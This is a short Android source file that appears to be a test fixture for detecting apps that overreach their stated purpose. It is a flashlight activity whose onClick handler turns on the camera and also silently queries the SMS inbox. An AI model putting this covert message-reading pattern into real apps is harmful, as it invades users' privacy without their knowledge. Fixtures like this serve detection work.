package fixture.categorybeyond;

import android.app.Activity;
import android.net.Uri;
import android.os.Bundle;
import android.view.View;
import android.widget.Button;

/** A torch that reads messages. The camera lights it. */
public class MainActivity extends Activity implements View.OnClickListener {
    static Object camera;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button on = new Button(this);
        on.setText("https://example.com/privacy");
        on.setOnClickListener(this);
        setContentView(on);
    }

    @Override
    public void onClick(View view) {
        camera = android.hardware.Camera.open();
        getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
    }
}
